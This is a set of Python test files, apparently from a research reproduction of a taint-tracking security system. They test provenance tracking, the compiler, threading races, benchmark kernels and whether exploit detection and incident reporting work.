    def test_record_and_origin_at(self):
        prov = ProvenanceTracker()
        origin = prov.record("network", "request#1", 1, addr=0x100,
                             length=8, stream_offset=4)
        found, offset = prov.origin_at(0x103)
        assert found is origin
        assert offset == 7  # byte 3 of the buffer = stream byte 4+3
        assert prov.origin_at(0x200) is None

    def test_contiguous_stream_reads_coalesce(self):
        prov = ProvenanceTracker()
        for i in range(5):  # byte-at-a-time recv loop
            prov.record("network", "request#1", 1, addr=0x100 + i,
                        length=1, stream_offset=i)
        assert len(prov.origins) == 1
        origin = prov.origins[0]
        assert (origin.start, origin.length) == (0, 5)
        assert origin.describe() == "origin #1: bytes 0-4 of network 'request#1'"

    def test_distinct_streams_do_not_coalesce(self):
        prov = ProvenanceTracker()
        prov.record("network", "request#1", 1, addr=0x100, length=4)
        prov.record("network", "request#2", 2, addr=0x104, length=4)
        prov.record("file", "/data", 3, addr=0x200, length=4)
        assert [o.origin_id for o in prov.origins] == [1, 2, 3]

    def test_copy_and_clear_range(self):
        prov = ProvenanceTracker()
        prov.record("stdin", "stdin", 0, addr=0x100, length=4)
        prov.copy_range(0x200, 0x100, 4)  # wrap memcpy propagates origins
        origin, offset = prov.origin_at(0x202)
        assert origin.source == "stdin" and offset == 2
        prov.clear_range(0x100, 4)
        assert prov.origin_at(0x100) is None
        assert prov.origin_at(0x200) is not None  # copy survives
        assert prov.live_origins() == [origin]

    def test_overlapping_copy_behaves_like_memmove(self):
        prov = ProvenanceTracker()
        prov.record("stdin", "stdin", 0, addr=0x100, length=4)
        prov.copy_range(0x102, 0x100, 4)
        _, offset = prov.origin_at(0x105)
        assert offset == 3  # from the pre-copy snapshot, not doubled

    def test_word_level_coarsens_like_tags(self):
        prov = ProvenanceTracker(granularity=8)
        prov.record("network", "request#1", 1, addr=0x103, length=2)
        # The whole 8-byte granule is attributed, just as the word tag is.
        origin, _ = prov.origin_at(0x100)
        assert origin.origin_id == 1
        # A later origin overwrites a shared granule (last-writer wins).
        prov.record("file", "/data", 2, addr=0x106, length=1)
        origin, _ = prov.origin_at(0x103)
        assert origin.source == "file"
        # Offsets clamp to the origin's own stream range.
        prov2 = ProvenanceTracker(granularity=8)
        recorded = prov2.record("stdin", "stdin", 0, addr=0x100, length=3)
        _, offset = prov2.origin_at(0x107)
        assert offset == recorded.end - 1

    def test_origins_in_range_orders_by_appearance(self):
        prov = ProvenanceTracker()
        prov.record("network", "request#1", 1, addr=0x108, length=4)
        prov.record("file", "/data", 2, addr=0x100, length=4)
        ordered = prov.origins_in_range(0x100, 16)
        assert [o.source for o in ordered] == ["file", "network"]
        assert prov.origins_in_range(0x100, 0) == []


class TestMetricsRegistry:
    def test_counter_gauge_histogram(self):
        reg = MetricsRegistry()
        reg.counter("c").inc(3)
        reg.counter("c").inc()  # get-or-create returns the same instrument
        reg.gauge("g").set(7.5)
        hist = reg.histogram("h")
        for v in (1, 2, 9):
            hist.observe(v)
        flat = reg.to_dict()
        assert flat["c"] == 4
        assert flat["g"] == 7.5
        assert (flat["h.count"], flat["h.sum"]) == (3, 12.0)
        assert flat["h.min"] == 1.0 and flat["h.max"] == 9.0
        assert flat["h.mean"] == 4.0

    def test_counters_only_go_up(self):
        reg = MetricsRegistry()
        with pytest.raises(ValueError):
            reg.counter("c").inc(-1)

    def test_render_lists_every_instrument(self):
        reg = MetricsRegistry()
        reg.counter("alpha").inc(1000)
        reg.gauge("beta").set(2)
        text = reg.render("title")
        assert text.startswith("title\n")
        assert "alpha" in text and "1,000" in text and "beta" in text

    def test_collect_machine_aggregates(self):
        machine = build_machine(SOURCE, stdin=bytes(range(32)), tracing=True)
        machine.run()
        flat = collect_machine(machine).to_dict()
        assert flat["cpu.instructions"] == machine.counters.instructions
        assert flat["cpu.cycles"] == machine.counters.cycles
        assert flat["alerts.total"] == 0
        assert flat["taint.granularity"] == machine.taint_map.granularity
        assert flat["taint.bitmap_population"] >= 0
        assert flat["trace.events.total"] == machine.obs.tracer.total_events
        assert flat["trace.origins"] == len(machine.obs.provenance.origins)


class TestDisassembleWindow:
    def test_window_marks_pc(self):
        machine = build_machine(SOURCE, stdin=b"x" * 32)
        pc = len(machine.program.code) // 2
        lines = disassemble_window(machine.program, pc)
        marked = [line for line in lines if line.startswith("=>")]
        assert len(marked) == 1
        assert f"{pc:6d}:" in marked[0]

    def test_out_of_range_pc_is_empty(self):
        machine = build_machine(SOURCE, stdin=b"x" * 32)
        assert disassemble_window(machine.program, None) == []
        assert disassemble_window(machine.program, -1) == []
        assert disassemble_window(machine.program, 10**9) == []


class TestMachineIntegration:
    def test_tracing_disabled_by_default(self):
        machine = build_machine(SOURCE, stdin=b"x" * 32)
        assert machine.obs is None
        assert machine.cpu.tracer is None
        assert machine.engine.tracer is None
        assert machine.taint_map.provenance is None
        assert machine.taint_map.tracer is None

    def test_traced_run_records_sources_and_syscalls(self):
        machine = build_machine(SOURCE, stdin=bytes(range(32)), tracing=True)
        machine.run()
        tracer = machine.obs.tracer
        sources = tracer.events("taint_source")
        assert sources, "tainted stdin read must emit a source event"
        assert sources[0].source == "stdin"
        assert tracer.counts["syscall"] > 0
        origin = machine.obs.provenance.origins[0]
        assert (origin.source, origin.start) == ("stdin", 0)

    def test_trace_path_exports_jsonl(self, tmp_path):
        path = tmp_path / "run.jsonl"
        machine = build_machine(SOURCE, stdin=b"abc" * 8,
                                trace_path=str(path))
        machine.run()
        records = [json.loads(line) for line in
                   path.read_text().splitlines()]
        assert records, "run() must export the trace on exit"
        assert all("kind" in r for r in records)
        assert any(r["kind"] == "taint_source" for r in records)

    def test_trace_capacity_is_honoured(self):
        machine = build_machine(SOURCE, stdin=b"x" * 32, tracing=True,
                                trace_capacity=2)
        machine.run()
        assert machine.obs.tracer.capacity == 2
        assert len(machine.obs.tracer) <= 2

    def test_invalid_trace_capacity_rejected(self):
        with pytest.raises(ValueError):
            build_machine(SOURCE, stdin=b"", tracing=True, trace_capacity=0)


def run_attack(app):
    """Run one Table 2 exploit under record-mode tracing."""
    compiled = compile_protected(app.source, BYTE_STRICT)
    machine = build_machine(compiled, policy_config=app.policy_config(),
                            engine_mode="record", tracing=True)
    scenario = app.attack(machine) if callable(app.attack) else app.attack
    app.prepare(machine, scenario)
    try:
        machine.run(max_instructions=50_000_000)
    except (SecurityAlert, Fault):
        pass
    return machine


@pytest.fixture(scope="module")
def bftpd_machine():
    return run_attack(BFTPD)


@pytest.fixture(scope="module")
def qwikiwiki_machine():
    return run_attack(QWIKIWIKI)


class TestEndToEndForensics:
    """The crafted overflow's origin chain, asserted end to end."""

    def test_low_level_alert_names_its_origin(self, bftpd_machine):
        machine = bftpd_machine
        assert machine.engine.detected(BFTPD.expected_policy)
        alert = machine.alerts[0]
        assert alert.policy_id == BFTPD.expected_policy  # L2, NaT fault path
        assert alert.pc is not None and alert.pc >= 0
        assert alert.instruction_count > 0
        assert alert.origins, "fault-path alert must carry live origins"
        origin = alert.origins[0]
        assert origin.source == "network"
        assert origin.label.startswith("request#")
        assert origin.start == 0 and origin.length > 1  # coalesced recv loop
        assert "bytes" in origin.describe()

    def test_high_level_alert_names_its_origin(self, qwikiwiki_machine):
        machine = qwikiwiki_machine
        assert machine.engine.detected(QWIKIWIKI.expected_policy)
        alert = next(a for a in machine.alerts
                     if a.policy_id == QWIKIWIKI.expected_policy)  # H2 use point
        assert alert.pc is not None
        assert alert.instruction_count > 0
        origins = alert.origins
        assert origins and all(o.source == "network" for o in origins)
        assert any(o.label.startswith("request#") for o in origins)

    def test_alert_events_reference_origin_ids(self, bftpd_machine):
        event = bftpd_machine.obs.tracer.last("alert")
        alert = bftpd_machine.alerts[0]
        assert event is not None
        assert event.policy_id == alert.policy_id
        assert event.origin_ids == tuple(o.origin_id for o in alert.origins)

    def test_fault_event_precedes_low_level_alert(self, bftpd_machine):
        fault = bftpd_machine.obs.tracer.last("fault")
        assert fault is not None
        assert fault.fault == "NaTConsumptionFault"
        assert fault.pc == bftpd_machine.alerts[0].pc

    def test_incident_report_renders_forensics(self, bftpd_machine):
        text = render_incidents(bftpd_machine)
        alert = bftpd_machine.alerts[0]
        assert f"INCIDENT {alert.policy_id}" in text
        assert f"pc={alert.pc}" in text
        assert "=>" in text  # disassembly window marks the faulting pc
        assert "taint origin chain:" in text
        assert "network" in text and "bytes" in text

    def test_incident_report_to_dict_is_json_safe(self, qwikiwiki_machine):
        reports = qwikiwiki_machine.incident_reports()
        assert reports
        data = reports[0].to_dict()
        assert json.loads(json.dumps(data)) == data
        assert data["origins"][0]["source"] == "network"

    def test_clean_machine_renders_no_incidents(self):
        machine = build_machine(SOURCE, stdin=b"x" * 32)
        assert render_incidents(machine) == "no security alerts recorded"
        assert machine.incident_reports() == []


class TestDisabledTracerFastPath:
    """tracing=False must not perturb the simulation at all."""

    @staticmethod
    def run_gzip(**kwargs):
        bench = BENCHMARKS["gzip"]
        machine = build_machine(
            bench.source("test"), PERF_OPTIONS["byte"],
            policy_config=spec_policy(safe_input=False),
            files={"/data": bench.make_input("test")}, **kwargs)
        machine.run(max_instructions=50_000_000)
        return machine

    COUNTERS = ("instructions", "cycles", "issue_cycles", "stall_cycles",
                "branch_penalty_cycles", "io_cycles", "loads", "stores",
                "branches_taken")

    def test_spec_counters_bit_identical(self):
        default = self.run_gzip()
        untraced = self.run_gzip(tracing=False)
        traced = self.run_gzip(tracing=True)
        assert default.obs is None and untraced.obs is None
        assert traced.obs is not None and len(traced.obs.tracer) > 0
        for name in self.COUNTERS:
            base = getattr(default.counters, name)
            assert getattr(untraced.counters, name) == base, name
            # Tracing observes the run; it must never change it.
            assert getattr(traced.counters, name) == base, name
        assert default.read_global("result") == \
            untraced.read_global("result") == traced.read_global("result")
