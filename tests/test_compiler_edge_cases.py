"""Compiler edge cases: register pressure, aliasing, tricky semantics."""

import pytest

from tests.conftest import minic_result, run_minic


def expect(source, value, **kwargs):
    assert minic_result(source, include_libc=False, **kwargs) == value


class TestRegisterPressure:
    def test_deep_expression_tree(self):
        # A single expression with many simultaneously-live temporaries.
        expr = "((1+2)*(3+4)) + ((5+6)*(7+8)) + ((9+10)*(11+12)) + ((13+14)*(15+16))"
        total = ((1+2)*(3+4)) + ((5+6)*(7+8)) + ((9+10)*(11+12)) + ((13+14)*(15+16))
        expect(f"int main() {{ return {expr}; }}", total)

    def test_deep_tree_with_variables(self):
        decls = "".join(f"int v{i} = {i + 1};" for i in range(16))
        expr = " + ".join(f"(v{i} * v{(i + 1) % 16})" for i in range(16))
        total = sum((i + 1) * (((i + 1) % 16) + 1) for i in range(16))
        expect(f"int main() {{ {decls} return {expr}; }}", total)

    def test_spilled_values_across_calls(self):
        decls = "".join(f"int v{i} = {i};" for i in range(20))
        uses = "+".join(f"v{i}" for i in range(20))
        expect(f"""
        int id(int x) {{ return x; }}
        int main() {{
            {decls}
            int mid = id(100);
            return {uses} + mid;
        }}
        """, sum(range(20)) + 100)

    def test_recursion_with_pressure(self):
        expect("""
        int f(int n) {
            int a = n + 1; int b = n + 2; int c = n + 3; int d = n + 4;
            int e = n + 5; int g = n + 6; int h = n + 7; int i = n + 8;
            if (n == 0) return a + b + c + d + e + g + h + i;
            return f(n - 1) + a - a + i - i;
        }
        int main() { return f(6); }
        """, 1 + 2 + 3 + 4 + 5 + 6 + 7 + 8)


class TestAliasing:
    def test_load_dest_aliases_address(self):
        # ld8 rX = [rX]: instrumentation must linearise before the load.
        expect("""
        int cell = 123;
        int main() {
            int *p = &cell;
            int **pp = (int **)&p;
            int *q = *pp;        // pointer loaded through itself-ish chain
            return *q;
        }
        """, 123)

    def test_store_value_aliases_address_region(self):
        expect("""
        int a[2];
        int main() {
            int *p = a;
            *p = (int)p & 0xff;
            return a[0] == ((int)p & 0xff);
        }
        """, 1)

    def test_overlapping_global_writes(self):
        expect("""
        char buf[16];
        int main() {
            int *words = (int *)buf;
            words[0] = 0x4142434445464748;
            return buf[0];   // little-endian low byte
        }
        """, 0x48)


class TestSemanticCorners:
    def test_char_sign_extension_in_compare(self):
        expect("""
        char buf[2];
        int main() {
            buf[0] = (char)200;     // negative as signed char
            if (buf[0] < 0) return 1;
            return 0;
        }
        """, 1)

    def test_shift_by_variable(self):
        expect("""
        int main() {
            int n = 0;
            for (int i = 0; i < 8; i++) n |= (1 << i);
            return n;
        }
        """, 255)

    def test_modulo_negative(self):
        expect("int main() { int a = -7; return a % 3 + 10; }", 9)

    def test_logical_not_of_comparison(self):
        expect("int main() { return !(3 > 5) + !(5 > 3) * 10; }", 1)

    def test_assignment_value_chains(self):
        expect("""
        int main() {
            int a; int b; int c;
            a = b = c = 5;
            return a + b + c;
        }
        """, 15)

    def test_compound_assign_on_array_element(self):
        expect("""
        int t[4] = {1, 2, 3, 4};
        int main() {
            t[2] *= t[1] + 1;
            return t[2];
        }
        """, 9)

    def test_break_from_inner_loop_only(self):
        expect("""
        int main() {
            int hits = 0;
            for (int i = 0; i < 3; i++) {
                for (int j = 0; j < 10; j++) {
                    if (j == 2) break;
                    hits++;
                }
            }
            return hits;
        }
        """, 6)

    def test_continue_in_while(self):
        expect("""
        int main() {
            int i = 0; int odd = 0;
            while (i < 10) {
                i++;
                if (i % 2 == 0) continue;
                odd++;
            }
            return odd;
        }
        """, 5)

    def test_empty_function_body_blocks(self):
        expect("""
        void nothing(int x) { }
        int main() {
            nothing(1);
            { }
            return 7;
        }
        """, 7)

    def test_shadowing_in_nested_scopes(self):
        expect("""
        int main() {
            int x = 1;
            {
                int x = 2;
                {
                    int x = 3;
                    if (x != 3) return 100;
                }
                if (x != 2) return 200;
            }
            return x;
        }
        """, 1)

    def test_large_immediates(self):
        expect("""
        int main() {
            int big = 0x7fffffffffff;
            return (big >> 40) & 0xff;
        }
        """, 0x7F)

    def test_sixty_four_bit_wraparound(self):
        expect("""
        int main() {
            int x = 0x7fffffffffffffff;
            x = x + 1;            // wraps to INT64_MIN
            return x < 0;
        }
        """, 1)


class TestInstrumentedEdgeCases:
    """The same corners must survive instrumentation unchanged."""

    @pytest.mark.parametrize("source,value", [
        ("int main() { int a = -7; return a % 3 + 10; }", 9),
        ("""
         char buf[16];
         int main() {
             int *words = (int *)buf;
             words[0] = 0x0102030405060708;
             int s = 0;
             for (int i = 0; i < 8; i++) s += buf[i];
             return s;
         }
         """, sum(range(1, 9))),
    ])
    def test_instrumented_matches(self, source, value, any_mode):
        assert minic_result(source, any_mode, include_libc=False) == value
