"""Multi-threaded guest tests (the paper's section 4.4 future work),
including a reproduction of the unserialized-bitmap race the paper
gives as the reason its prototype stayed single-threaded.
"""

import pytest

from repro.core import build_machine
from repro.compiler.instrument import ShiftOptions
from repro.runtime.threads import DeadlockError

THREAD_DECLS = """
native int thread_create(int fn, int arg);
native int thread_join(int tid);
native void thread_yield();
native int mutex_create();
native void mutex_lock(int m);
native void mutex_unlock(int m);
"""

BYTE = ShiftOptions(granularity=1, pointer_policy="strict")


def run_threaded(source, options=None, quantum=800, serialize_bitmap=False,
                 stdin=b"", **kwargs):
    from repro.compiler.instrument import UNINSTRUMENTED

    machine = build_machine(source, options or UNINSTRUMENTED, stdin=stdin,
                            thread_quantum=quantum,
                            serialize_bitmap=serialize_bitmap, **kwargs)
    machine.exit_code = machine.run(max_instructions=50_000_000)
    return machine


class TestLifecycle:
    def test_create_join_returns_value(self):
        m = run_threaded(THREAD_DECLS + """
        int square(int x) { return x * x; }
        int main() {
            int t = thread_create((int)&square, 12);
            return thread_join(t);
        }
        """)
        assert m.exit_code == 144

    def test_join_finished_thread(self):
        m = run_threaded(THREAD_DECLS + """
        int quick(int x) { return x + 1; }
        int main() {
            int t = thread_create((int)&quick, 5);
            int spin;
            for (spin = 0; spin < 5000; spin++) { }
            return thread_join(t);
        }
        """, quantum=100)
        assert m.exit_code == 6

    def test_many_threads(self):
        m = run_threaded(THREAD_DECLS + """
        int work(int x) { return x * 2; }
        int main() {
            int tids[6];
            int i;
            for (i = 0; i < 6; i++) tids[i] = thread_create((int)&work, i);
            int total = 0;
            for (i = 0; i < 6; i++) total += thread_join(tids[i]);
            return total;
        }
        """)
        assert m.exit_code == 30  # 2*(0+1+2+3+4+5)

    def test_threads_share_globals(self):
        m = run_threaded(THREAD_DECLS + """
        int shared;
        int setter(int v) { shared = v; return 0; }
        int main() {
            int t = thread_create((int)&setter, 77);
            thread_join(t);
            return shared;
        }
        """)
        assert m.exit_code == 77

    def test_yield_interleaves(self):
        m = run_threaded(THREAD_DECLS + """
        int log[8];
        int logged;
        int chatty(int id) {
            int i;
            for (i = 0; i < 3; i++) {
                log[logged] = id;
                logged++;
                thread_yield();
            }
            return 0;
        }
        int main() {
            int t1 = thread_create((int)&chatty, 1);
            int t2 = thread_create((int)&chatty, 2);
            thread_join(t1);
            thread_join(t2);
            return logged;
        }
        """, quantum=10_000)
        assert m.exit_code == 6
        # yield forces strict 1-2-1-2 alternation
        entries = [m.read_global("log") & 0xFF]
        log_addr = m.address_of("log")
        entries = [m.memory.load(log_addr + 8 * i, 8) for i in range(6)]
        assert entries == [1, 2, 1, 2, 1, 2]


class TestMutex:
    def test_unsynchronised_counter_loses_updates(self):
        """counter++ is load/add/store: preempting between them loses
        increments — the classic race, deterministic with quantum=1."""
        m = run_threaded(THREAD_DECLS + """
        int counter;
        int bump(int n) {
            int i;
            for (i = 0; i < n; i++) counter = counter + 1;
            return 0;
        }
        int main() {
            int t1 = thread_create((int)&bump, 40);
            int t2 = thread_create((int)&bump, 40);
            thread_join(t1);
            thread_join(t2);
            return counter;
        }
        """, quantum=3)
        assert m.exit_code < 80  # updates were lost

    def test_mutex_protects_counter(self):
        m = run_threaded(THREAD_DECLS + """
        int counter;
        int lock;
        int bump(int n) {
            int i;
            for (i = 0; i < n; i++) {
                mutex_lock(lock);
                counter = counter + 1;
                mutex_unlock(lock);
            }
            return 0;
        }
        int main() {
            lock = mutex_create();
            int t1 = thread_create((int)&bump, 40);
            int t2 = thread_create((int)&bump, 40);
            thread_join(t1);
            thread_join(t2);
            return counter;
        }
        """, quantum=3)
        assert m.exit_code == 80

    def test_self_deadlock_detected(self):
        with pytest.raises(DeadlockError):
            run_threaded(THREAD_DECLS + """
            int lock;
            int main() {
                lock = mutex_create();
                mutex_lock(lock);
                mutex_lock(lock);
                return 0;
            }
            """)


class TestTaintAcrossThreads:
    def test_register_taint_is_per_thread(self):
        """Each context carries its own NaT bits; a thread working on
        tainted data does not contaminate its siblings' registers."""
        m = run_threaded(THREAD_DECLS + """
        native int read(int fd, char *buf, int n);
        native int is_tainted(char *p);
        char secret[32];
        char copy[32];
        int out_clean;
        int courier(int unused) {
            int i;
            for (i = 0; i < 8; i++) copy[i] = secret[i];
            return 0;
        }
        int clean_worker(int n) {
            int acc = 0;
            int i;
            for (i = 0; i < n; i++) acc += i;
            return acc;
        }
        int main() {
            read(0, secret, 8);
            int t1 = thread_create((int)&courier, 0);
            int t2 = thread_create((int)&clean_worker, 10);
            thread_join(t1);
            out_clean = thread_join(t2);
            return is_tainted(copy) * 10 + (out_clean == 45);
        }
        """, BYTE, quantum=5, stdin=b"SSSSSSSS")
        assert m.exit_code == 11  # copy tainted via t1; t2's result clean

    def test_bitmap_race_loses_taint_byte_level(self):
        """The paper's 4.4 caveat reproduced deterministically: both
        threads store into the same 8-byte word, so their byte-level tag
        read-modify-writes hit the same tag byte.  With quantum=1 the
        clean writer's ld2 reads the tag byte before the tainted store
        sets bit 0 and its st2 writes the stale value back after — the
        tainted byte's tag is torn away."""
        m = self._race_machine(serialize_bitmap=False)
        assert m.memory.load(m.address_of("shared"), 1) != 0  # data arrived
        assert not m.taint_map.is_tainted(m.address_of("shared")), \
            "the taint bit must be lost to the unserialized RMW"

    def test_serialized_bitmap_keeps_taint(self):
        """Deferring preemption to instrumentation-sequence boundaries
        (the serialization the paper leaves to future work) removes the
        race: the same interleaving now keeps the taint bit."""
        m = self._race_machine(serialize_bitmap=True)
        assert m.taint_map.is_tainted(m.address_of("shared"))

    _RACE_SOURCE = THREAD_DECLS + """
    native int read(int fd, char *buf, int n);
    char secret[16];
    char shared[16];
    int sink;
    int writer_clean(int pad) {
        int i;
        int acc = 0;
        for (i = 0; i < pad; i++) acc += i;   // phase alignment
        sink = acc;
        shared[4] = 'x';          // clean store: RMW on the shared tag byte
        return 0;
    }
    int writer_taint(int unused) {
        shared[0] = secret[0];    // tainted store: sets bit 0 of the same byte
        return 0;
    }
    int main() {
        read(0, secret, 8);
        int t1 = thread_create((int)&writer_clean, 0);
        int t2 = thread_create((int)&writer_taint, 0);
        thread_join(t1);
        thread_join(t2);
        return 0;
    }
    """

    def _race_machine(self, serialize_bitmap):
        return run_threaded(self._RACE_SOURCE, BYTE, quantum=1,
                            serialize_bitmap=serialize_bitmap,
                            stdin=b"TTTTTTTT")


class TestSchedulerAccounting:
    def test_context_switches_counted_and_charged(self):
        m = run_threaded(THREAD_DECLS + """
        int spin(int n) { int i; int s = 0; for (i = 0; i < n; i++) s += i; return s; }
        int main() {
            int t1 = thread_create((int)&spin, 2000);
            int t2 = thread_create((int)&spin, 2000);
            thread_join(t1);
            thread_join(t2);
            return 0;
        }
        """, quantum=200)
        assert m.threads.context_switches > 10
        assert m.counters.io_cycles >= m.threads.context_switches * 100
