"""SPEC-like kernel tests: correctness across instrumentation modes."""

import pytest

from repro.apps.spec import BENCHMARKS
from repro.core.shift import build_machine
from repro.harness.runners import PERF_OPTIONS, spec_policy
from repro.taint.policy import PolicyConfig


def run_kernel(bench, options, scale="test", safe=False):
    machine = build_machine(
        bench.source(scale), options,
        policy_config=spec_policy(safe_input=safe),
        files={"/data": bench.make_input(scale)},
    )
    exit_code = machine.run(max_instructions=50_000_000)
    return machine, exit_code


class TestCatalogue:
    def test_eight_benchmarks_in_figure7_order(self):
        assert list(BENCHMARKS) == [
            "gzip", "gcc", "crafty", "bzip2", "vpr", "mcf", "parser", "twolf",
        ]

    def test_spec_names(self):
        assert BENCHMARKS["gzip"].spec_name == "164.gzip"
        assert BENCHMARKS["mcf"].spec_name == "181.mcf"

    def test_sources_have_no_unreplaced_placeholders(self):
        for bench in BENCHMARKS.values():
            for scale in ("test", "ref"):
                assert "@" not in bench.source(scale)

    def test_inputs_deterministic(self):
        for bench in BENCHMARKS.values():
            assert bench.make_input("test") == bench.make_input("test")

    def test_unknown_placeholder_rejected(self):
        from repro.apps.spec.common import SpecBenchmark
        bench = SpecBenchmark(
            name="x", spec_name="0.x", description="",
            source_template="int main() { return @NOPE@; }",
            params={"test": {}}, input_maker=lambda rng, p: b"",
        )
        with pytest.raises(ValueError):
            bench.source("test")


@pytest.mark.parametrize("name", list(BENCHMARKS))
class TestKernelCorrectness:
    def test_runs_and_modes_agree(self, name):
        bench = BENCHMARKS[name]
        base, code = run_kernel(bench, PERF_OPTIONS["none"])
        checksum = base.read_global("result")
        assert checksum != 0, "kernel must produce a nontrivial result"
        for config in ("byte", "word"):
            machine, other_code = run_kernel(bench, PERF_OPTIONS[config])
            assert machine.read_global("result") == checksum, config
            assert other_code == code

    def test_no_alerts_during_perf_runs(self, name):
        bench = BENCHMARKS[name]
        machine, _ = run_kernel(bench, PERF_OPTIONS["byte"])
        assert not machine.alerts


class TestEnhancedModesAgree:
    @pytest.mark.parametrize("config", ["byte-set/clear", "byte-both",
                                        "word-set/clear", "word-both", "lift"])
    def test_gzip_checksum_stable(self, config):
        bench = BENCHMARKS["gzip"]
        base, _ = run_kernel(bench, PERF_OPTIONS["none"])
        enhanced, _ = run_kernel(bench, PERF_OPTIONS[config])
        assert enhanced.read_global("result") == base.read_global("result")


class TestPerformanceShape:
    def test_instrumentation_slows_down(self):
        bench = BENCHMARKS["bzip2"]
        base, _ = run_kernel(bench, PERF_OPTIONS["none"])
        byte, _ = run_kernel(bench, PERF_OPTIONS["byte"])
        assert byte.counters.cycles > base.counters.cycles * 1.3

    def test_byte_slower_than_word(self):
        bench = BENCHMARKS["parser"]
        base, _ = run_kernel(bench, PERF_OPTIONS["none"])
        byte, _ = run_kernel(bench, PERF_OPTIONS["byte"])
        word, _ = run_kernel(bench, PERF_OPTIONS["word"])
        assert byte.counters.cycles > word.counters.cycles

    def test_mcf_is_memory_bound(self):
        bench = BENCHMARKS["mcf"]
        base, _ = run_kernel(bench, PERF_OPTIONS["none"])
        assert base.counters.stall_cycles > 0.3 * base.counters.compute_cycles

    def test_mcf_overhead_lower_than_parser(self):
        def slowdown(name):
            bench = BENCHMARKS[name]
            base, _ = run_kernel(bench, PERF_OPTIONS["none"])
            byte, _ = run_kernel(bench, PERF_OPTIONS["byte"])
            return byte.counters.cycles / base.counters.cycles
        assert slowdown("mcf") < slowdown("parser")

    def test_safe_input_not_slower_than_unsafe(self):
        bench = BENCHMARKS["gzip"]
        unsafe, _ = run_kernel(bench, PERF_OPTIONS["byte"], safe=False)
        safe, _ = run_kernel(bench, PERF_OPTIONS["byte"], safe=True)
        assert safe.counters.cycles <= unsafe.counters.cycles * 1.02
