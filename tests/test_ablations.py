"""Tests for the ablation options (natgen granularity, flat translation)."""

import pytest

from repro.compiler.codegen import FunctionCode
from repro.compiler.instrument import ShiftOptions, instrument_function
from repro.isa import parse_instruction
from repro.isa.instruction import Instruction, ROLE_NATGEN
from tests.conftest import run_minic

TAINT_SRC = """
native int read(int fd, char *buf, int n);
native int is_tainted(char *p);
char src[32];
char dst[32];
int main() {
    read(0, src, 16);
    int i = 0;
    while (src[i]) { dst[i] = src[i]; i++; }
    return is_tainted(dst);
}
"""


def ops_of(lines, options):
    items = [parse_instruction(line) for line in lines]
    out = instrument_function(FunctionCode(name="t", items=items), options)
    return [i for i in out.items if isinstance(i, Instruction)]


class TestNatgenGranularity:
    def test_per_use_emits_natgen_at_sites(self):
        out = ops_of(["ld8 r14 = [r15]"], ShiftOptions(granularity=1, natgen="use"))
        natgen = [i for i in out if i.role == ROLE_NATGEN]
        # No prologue natgen, but the taint-set site manufactures one.
        assert len(natgen) == 2
        assert out[0].role != ROLE_NATGEN

    def test_global_emits_none_in_function(self):
        out = ops_of(["ld8 r14 = [r15]"], ShiftOptions(granularity=1, natgen="global"))
        assert all(i.role != ROLE_NATGEN for i in out)

    def test_global_natgen_lives_in_start(self):
        from repro.core.shift import compile_protected
        compiled = compile_protected("int main() { return 0; }",
                                     ShiftOptions(granularity=1, natgen="global"),
                                     include_libc=False)
        start, end = compiled.program.functions["_start"]
        ops = [i.op for i in compiled.program.code[start:end]]
        assert "ld8.s" in ops

    def test_bad_granularity_rejected(self):
        with pytest.raises(ValueError):
            ShiftOptions(natgen="per-basic-block")

    @pytest.mark.parametrize("natgen", ["use", "function", "global"])
    def test_taint_flow_correct_under_all_granularities(self, natgen):
        machine = run_minic(TAINT_SRC, ShiftOptions(granularity=1, natgen=natgen),
                            stdin=b"tainted-stuff")
        assert machine.exit_code == 1


class TestFlatTranslation:
    def test_shorter_tag_computation(self):
        full = ops_of(["ld8 r14 = [r15]"], ShiftOptions(granularity=1))
        flat = ops_of(["ld8 r14 = [r15]"],
                      ShiftOptions(granularity=1, fast_tag_translation=True))
        assert len(flat) < len(full)

    @pytest.mark.parametrize("granularity", [1, 8])
    def test_taint_flow_correct_with_flat_translation(self, granularity):
        machine = run_minic(
            TAINT_SRC,
            ShiftOptions(granularity=granularity, fast_tag_translation=True),
            stdin=b"tainted-stuff!!!",
        )
        assert machine.exit_code == 1

    def test_detection_still_works_flat(self):
        from repro.taint.engine import SecurityAlert
        source = """
        native int read(int fd, char *buf, int n);
        char src[16];
        int main() {
            read(0, src, 8);
            int *p = (int *)atoi(src);
            *p = 1;
            return 0;
        }
        """
        with pytest.raises(SecurityAlert) as excinfo:
            run_minic(source, ShiftOptions(granularity=1, fast_tag_translation=True),
                      stdin=b"4611686018427387904")
        assert excinfo.value.policy_id == "L2"
