"""TaintMap tests at both granularities."""

import pytest
from hypothesis import given, settings, strategies as st

from repro.mem.address import make_address
from repro.mem.memory import SparseMemory
from repro.taint.bitmap import GRANULARITY_BYTE, GRANULARITY_WORD, TaintMap


def addr(offset):
    return make_address(2, 0x1000 + offset)


@pytest.fixture(params=[GRANULARITY_BYTE, GRANULARITY_WORD],
                ids=["byte", "word"])
def tmap(request):
    return TaintMap(SparseMemory(), request.param)


class TestBasics:
    def test_initially_clean(self, tmap):
        assert not tmap.is_tainted(addr(0))

    def test_set_and_clear(self, tmap):
        tmap.set_taint(addr(0), True)
        assert tmap.is_tainted(addr(0))
        tmap.set_taint(addr(0), False)
        assert not tmap.is_tainted(addr(0))

    def test_rejects_bad_granularity(self):
        with pytest.raises(ValueError):
            TaintMap(SparseMemory(), 4)

    def test_range_marks_all_bytes(self, tmap):
        tmap.set_range(addr(0), 20, True)
        assert all(tmap.taint_flags(addr(0), 20))

    def test_empty_range_is_noop(self, tmap):
        tmap.set_range(addr(0), 0, True)
        assert not tmap.any_tainted(addr(0), 8)

    def test_any_tainted(self, tmap):
        tmap.set_taint(addr(16), True)
        assert tmap.any_tainted(addr(0), 32)
        assert not tmap.any_tainted(addr(64), 32)


class TestGranularityDifferences:
    def test_byte_level_is_precise(self):
        tmap = TaintMap(SparseMemory(), GRANULARITY_BYTE)
        tmap.set_taint(addr(3), True)
        flags = tmap.taint_flags(addr(0), 8)
        assert flags == [False, False, False, True, False, False, False, False]

    def test_word_level_taints_whole_word(self):
        tmap = TaintMap(SparseMemory(), GRANULARITY_WORD)
        tmap.set_taint(addr(3), True)
        # addr(3) is inside the word [0, 8): all eight bytes report taint.
        assert all(tmap.taint_flags(addr(0), 8))
        assert not tmap.any_tainted(addr(8), 8)


class TestSpans:
    def test_single_span(self):
        tmap = TaintMap(SparseMemory(), GRANULARITY_BYTE)
        tmap.set_range(addr(4), 6, True)
        assert list(tmap.tainted_spans(addr(0), 16)) == [(4, 6)]

    def test_multiple_spans(self):
